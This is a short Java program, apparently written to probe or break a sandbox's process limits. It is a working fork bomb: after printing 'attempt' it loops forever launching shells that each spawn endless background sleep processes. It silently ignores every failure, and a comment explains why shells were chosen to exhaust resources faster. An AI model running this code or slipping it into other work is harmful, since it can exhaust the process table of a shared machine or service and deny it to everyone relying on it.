class Main {
    public static void main(String[] args) {
        System.out.println("attempt");
        for (;;)
            // Its own streams: pipes to each would end at the limit of open files. And shells, which fork faster.
            try { new ProcessBuilder("/bin/sh", "-c", "while :; do sleep 3600 & done").inheritIO().start(); } catch (Exception | Error refused) { }
    }
}
